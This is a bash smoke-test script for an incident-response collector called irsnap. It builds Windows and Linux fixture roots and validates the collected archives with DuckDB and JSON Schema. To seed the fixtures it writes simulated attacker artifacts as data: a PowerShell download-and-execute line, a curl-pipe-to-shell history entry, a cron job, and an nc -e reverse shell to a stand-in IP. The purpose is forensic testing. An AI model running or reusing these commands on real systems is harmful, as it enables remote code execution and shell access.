#!/usr/bin/env bash
# Prove irsnap archives load in the clients analysts use: Python's zipfile and `unzip -t`,
# JSON Schema validation (Python jsonschema) of every record line and the manifest against
# the archive's own schema/, and DuckDB's read_json_auto on every records/*.jsonl and
# timeline.jsonl, with a few queries. The checks are in scripts/archive-check.py.
#
#   scripts/duckdb-smoke.sh                    build irsnap, collect the live host and two
#                                              offline roots (Windows, Linux) built from
#                                              ../shared/fixtures, check all three
#   scripts/duckdb-smoke.sh [--json-out F] ARCHIVE...   check these archives
#
# duckdb and jsonschema come from PyPI into a venv under target/ (made once, reused). When
# they cannot be installed the script prints a loud SKIPPED line and exits 0, unless
# IRSNAP_SMOKE_REQUIRED=1, when it fails. Exit 1 when any check fails.
set -euo pipefail
repo="$(cd "$(dirname "$0")/.." && pwd)"
target="${CARGO_TARGET_DIR:-$repo/target}"
venv="$target/smoke-venv"
started=$(date +%s)
mkdir -p "$target"

skip() {
  echo "SKIPPED: duckdb-smoke: $*" >&2
  echo "SKIPPED: duckdb-smoke: $*"
  if [ "${IRSNAP_SMOKE_REQUIRED:-0}" = 1 ]; then
    exit 1
  fi
  exit 0
}

# unzip for `unzip -t`; without it that one check is skipped (loudly, by archive-check.py).
if ! command -v unzip >/dev/null 2>&1 && [ "$(id -u)" = 0 ] && command -v apt-get >/dev/null 2>&1; then
  apt-get install -y -qq unzip >/dev/null 2>&1 ||
    { apt-get update -qq >/dev/null 2>&1 && apt-get install -y -qq unzip >/dev/null 2>&1; } ||
    echo "SKIPPED: duckdb-smoke: could not install unzip; unzip -t is not checked" >&2
fi

# The venv, made once. flock: two runs at once (a test and CI) must not both pip-install.
setup_venv() {
  if "$venv/bin/python" -c 'import duckdb, jsonschema, rfc3339_validator' >/dev/null 2>&1; then
    return 0
  fi
  rm -rf "$venv"
  python3 -m venv "$venv" >&2 || return 1
  "$venv/bin/pip" install --quiet --disable-pip-version-check \
    'duckdb>=1,<2' 'jsonschema>=4.18,<5' 'rfc3339-validator>=0.1' >&2 || return 1
  "$venv/bin/python" -c 'import duckdb, jsonschema, rfc3339_validator'
}
exec 9>"$target/smoke-venv.lock"
if command -v flock >/dev/null 2>&1; then
  flock 9
fi
if ! command -v python3 >/dev/null 2>&1; then
  skip "python3 is not installed"
fi
setup_venv || skip "could not pip-install duckdb and jsonschema into $venv"
flock -u 9 2>/dev/null || true

if [ $# -gt 0 ]; then
  status=0
  "$venv/bin/python" "$repo/scripts/archive-check.py" --repo-schema "$repo/schema" "$@" || status=$?
  echo "duckdb-smoke: done in $(($(date +%s) - started))s"
  exit $status
fi

# No archives given: make three.
fixtures="$repo/../shared/fixtures"
[ -d "$fixtures" ] || skip "no fixtures at $fixtures"
(cd "$repo" && cargo build --quiet)
bin="$target/debug/irsnap"
work="$target/duckdb-smoke"
rm -rf "$work"
mkdir -p "$work/out"

put() { # put ROOT PATH-INSIDE SOURCE-FILE
  mkdir -p "$(dirname "$1/$2")"
  cp "$3" "$1/$2"
}

win="$work/win"
logs="Windows/System32/winevt/Logs"
mkdir -p "$win/Windows/System32"
cp -R "$fixtures/tasks/dfir-artifact-museum/Win10/APTSimulatorVM" "$win/Windows/System32/Tasks"
put "$win" "Windows/System32/Tasks/T1053_05_SCTASK_HIDDEN_ATTRIB.xml" \
  "$fixtures/tasks/atomic-red-team/T1053_05_SCTASK_HIDDEN_ATTRIB.xml"
put "$win" "$logs/Microsoft-Windows-Sysmon%4Operational.evtx" \
  "$fixtures/evtx/sysmon/museum-win10-aptsimulator/Microsoft-Windows-Sysmon%4Operational.evtx"
put "$win" "$logs/Security.evtx" "$fixtures/evtx/security/museum-server2022-aptsimulator/Security.evtx"
put "$win" "$logs/Microsoft-Windows-TaskScheduler%4Operational.evtx" \
  "$fixtures/evtx/taskscheduler/museum-win2012r2-stolenszechuan/Microsoft-Windows-TaskScheduler%4Operational.evtx"
put "$win" "$logs/Microsoft-Windows-PowerShell%4Operational.evtx" \
  "$fixtures/evtx/powershell/museum-win10-aptsimulator/Microsoft-Windows-PowerShell%4Operational.evtx"
put "$win" "$logs/Windows PowerShell.evtx" \
  "$fixtures/evtx/powershell/museum-win10-aptsimulator/Windows PowerShell.evtx"
put "$win" "Users/alice/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt" \
  "$fixtures/history/dfir-artifact-museum/BelkasoftCTF_InsiderThreat/ConsoleHost_history.txt"
mkdir -p "$win/Users/alice/AppData/Local/Temp"
printf 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a")\r\n' \
  >"$win/Users/alice/AppData/Local/Temp/stage.ps1"

lx="$work/linux"
mkdir -p "$lx"
cp -R "$fixtures/linux/etc" "$lx/etc"
mkdir -p "$lx/usr/lib/systemd" "$lx/root" "$lx/tmp" "$lx/var/spool/cron/crontabs"
cp -R "$fixtures/linux/lib/systemd/system" "$lx/usr/lib/systemd/system"
ln -s usr/lib "$lx/lib" # merged /usr
printf 'root:x:0:0:root:/root:/bin/bash\n' >"$lx/etc/passwd"
printf '#1700000000\ncurl -s http://198.51.100.7/x.sh | sh\n' >"$lx/root/.bash_history"
printf '* * * * * /tmp/evil.sh\n' >"$lx/var/spool/cron/crontabs/root"
printf '#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n' >"$lx/tmp/evil.sh"
chmod 755 "$lx/tmp/evil.sh"

archives=()
collect() { # collect NAME ARGS...
  local name=$1
  shift
  local out="$work/out/$name"
  mkdir -p "$out"
  local code=0
  "$bin" collect --quiet -o "$out" "$@" >"$out.stdout" 2>"$out.stderr" || code=$?
  # 0 complete, 2 partial (a collector lacked rights): both wrote an archive.
  if [ $code -ne 0 ] && [ $code -ne 2 ]; then
    echo "duckdb-smoke: irsnap collect ($name) exited $code:" >&2
    cat "$out.stderr" >&2
    exit 1
  fi
  archives+=("$(tail -n 1 "$out.stdout")")
}
collect live --deadline 120s
collect windows-root --root "$win"
collect linux-root --root "$lx"

status=0
"$venv/bin/python" "$repo/scripts/archive-check.py" --repo-schema "$repo/schema" \
  --json-out "$work/facts.json" "${archives[@]}" || status=$?
echo "duckdb-smoke: ${#archives[@]} archives checked in $(($(date +%s) - started))s"
exit $status
